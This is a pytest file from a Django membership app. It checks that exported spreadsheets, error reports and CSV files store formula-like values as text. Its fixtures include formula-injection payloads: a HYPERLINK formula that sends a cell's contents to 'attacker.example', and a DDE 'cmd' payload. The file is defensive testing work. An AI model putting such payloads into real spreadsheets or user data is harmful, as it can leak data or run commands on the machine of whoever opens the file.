"""
Formula injection: a text that starts like a formula (= + - @, a tab or a
carriage return) is written as text in every spreadsheet we produce, so
opening an export never runs what a member's record or an uploaded cell holds.
"""

import ast
import io
import pathlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from congdoan.accounts.models import User
from congdoan.accounts.roles import UnionRole
from congdoan.members.models import MemberImport
from congdoan.members.spreadsheets.checking import RowError
from congdoan.members.spreadsheets.columns import COLUMNS_BY_KEY
from congdoan.members.spreadsheets.export import errors_workbook
from congdoan.members.spreadsheets.template import template_workbook
from congdoan.registry_fixtures import admit, found
from congdoan.unions.levels import Level

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("in_english")]

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Bấm vào đây")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cells(content):
    """Every cell of every sheet of an .xlsx, re-opened with openpyxl."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_written_as_text(content, values):
    found_cells = {cell.value: cell for cell in cells(content) if cell.value in values}
    assert set(found_cells) == set(values)  # each value is there, exactly as it was (nothing prefixed)
    for cell in found_cells.values():
        assert cell.data_type == "s", (cell.value, cell.data_type)
    assert not [cell for cell in cells(content) if cell.data_type == "f"]


def test_an_exported_member_named_like_a_formula_is_text_in_the_file(client, unions):
    admit(unions.transport, family=HYPERLINK, middle="", given="@SUM(1+1)", job_title="-2+3",
          workplace_unit="+1+cmd|' /C calc'!A0", hometown="\t=1+1", card_number="000901")  # fmt: skip
    chair = User.objects.create_user("chair", organisation=unions.transport, union_role=UnionRole.OFFICIAL)
    client.force_login(chair)
    response = client.get(reverse("members:export", args=[unions.transport.pk]))
    assert response.status_code == 200
    assert_written_as_text(response.content, [HYPERLINK, "@SUM(1+1)", "-2+3", "+1+cmd|' /C calc'!A0", "\t=1+1"])


def test_the_error_report_writes_a_bad_cell_as_text(client, unions):
    errors = [RowError(row, COLUMNS_BY_KEY["card_number"].header, value, "Bad.") for row, value in
              enumerate(DANGEROUS, start=2)]  # fmt: skip
    errors.append(RowError(1, "=cmd()", "=cmd()", "Unknown column: use the headers of the import template."))
    assert_written_as_text(errors_workbook(errors, "=evil().xlsx"), [*DANGEROUS, "=cmd()"])


def test_the_error_report_downloaded_after_an_upload_has_no_formula(client, unions):
    clerk = User.objects.create_user("clerk", organisation=unions.transport, union_role=UnionRole.CLERK)
    client.force_login(clerk)
    headers = [COLUMNS_BY_KEY[key].header for key in
               ("card_number", "family_name", "given_name", "sex", "citizen_id", "joined_union_on")]  # fmt: skip
    content = "\n".join([",".join(headers), '0001,Hà,Thu,Female,"=HYPERLINK(""http://x"",""y"")",01/04/2016'])
    upload = SimpleUploadedFile("ds.csv", content.encode())
    response = client.post(reverse("members:import", args=[unions.transport.pk]), {"file": upload})
    job = MemberImport.objects.get()
    assert response.status_code == 302 and job.errors
    report = client.get(reverse("members:import_errors", args=[job.pk]))
    assert report.status_code == 200
    assert_written_as_text(report.content, ['=HYPERLINK("http://x","y")'])


def test_a_unit_named_like_a_formula_is_text_in_the_template_lists(unions):
    found(unions.transport, '=HYPERLINK("http://x","y")', Level.BRANCH)
    content = template_workbook(organisation=unions.transport)
    assert_written_as_text(content, ['=HYPERLINK("http://x","y")'])


def test_an_exported_formula_like_name_imports_again_unchanged(client, unions):
    from congdoan.members.models import Member
    from congdoan.members.spreadsheets.importing import import_members

    admit(unions.transport, family=HYPERLINK, middle="", given="=An", card_number="000902")
    chair = User.objects.create_user("chair", organisation=unions.transport, union_role=UnionRole.OFFICIAL)
    client.force_login(chair)
    content = client.get(reverse("members:export", args=[unions.transport.pk])).content
    Member.objects.all().delete()
    outcome = import_members(organisation=unions.transport, file=io.BytesIO(content), filename="x.xlsx", user=chair)
    assert outcome.errors == [] and outcome.imported == 1
    assert Member.objects.get().family_name == HYPERLINK and Member.objects.get().given_name == "=An"


def test_text_that_only_looks_like_a_formula_to_csv_gets_the_owasp_prefix():
    from congdoan.members.spreadsheets.writing import csv_bytes

    text = csv_bytes([["Tên", "Ghi chú"], [HYPERLINK, "-2+3"], ["An", 5]]).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1] == '"\'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Bấm vào đây"")",\'-2+3'
    assert lines[2] == "An,5"


# ---------------------------------------------------------------------------
# The class is closed: only congdoan/members/spreadsheets/writing.py writes spreadsheets.

PROJECT = pathlib.Path(__file__).resolve().parents[2]
WRITER = PROJECT / "members" / "spreadsheets" / "writing.py"
# Names that create a workbook, a cell or a CSV writer.
WRITING_NAMES = {"Workbook", "WriteOnlyCell", "Cell", "MergedCell", "writer", "DictWriter"}
WRITING_MODULES = ("openpyxl", "csv", "xlsxwriter", "pyexcel", "odf", "tablib")


def writing_uses(path):
    """Where ``path`` imports or calls something that writes spreadsheet cells."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    uses = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in WRITING_MODULES:
            uses += [f"{node.module}.{alias.name}" for alias in node.names if alias.name in WRITING_NAMES]
            if (node.module or "").split(".")[0] == "xlsxwriter":
                uses.append(node.module)
        elif isinstance(node, ast.Import):
            uses += [alias.name for alias in node.names if alias.name.split(".")[0] in ("xlsxwriter", "tablib")]
        elif isinstance(node, ast.Attribute) and node.attr in WRITING_NAMES:
            root = node.value
            while isinstance(root, ast.Attribute):
                root = root.value
            if isinstance(root, ast.Name) and root.id in WRITING_MODULES:
                uses.append(f"{root.id}.{node.attr}")
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr in ("append", "cell")
            and isinstance(node.func.value, ast.Attribute)
            and node.func.value.attr == "worksheet"
        ):
            uses.append("worksheet." + node.func.attr)  # the openpyxl sheet behind a writing.Sheet, used directly
    return uses


def test_no_module_but_the_writer_creates_workbooks_cells_or_csv_writers():
    offenders = {}
    for path in sorted(PROJECT.rglob("*.py")):
        if path == WRITER or "tests" in path.relative_to(PROJECT).parts or path.name == "conftest.py":
            continue
        uses = writing_uses(path)
        if uses:
            offenders[str(path.relative_to(PROJECT))] = uses
    assert offenders == {}


def test_the_guard_sees_a_direct_writer():
    assert writing_uses(WRITER)  # the writer itself is caught by the same rule, so the rule can see
